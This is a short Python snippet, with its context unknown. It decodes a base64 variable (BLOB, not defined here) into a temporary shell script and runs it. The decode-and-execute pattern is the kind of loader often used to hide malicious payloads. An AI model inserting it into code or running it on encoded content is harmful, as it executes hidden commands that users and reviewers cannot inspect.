import base64, subprocess
open('/tmp/t.sh', 'wb').write(base64.b64decode(BLOB))
subprocess.run(['sh', '/tmp/t.sh'])
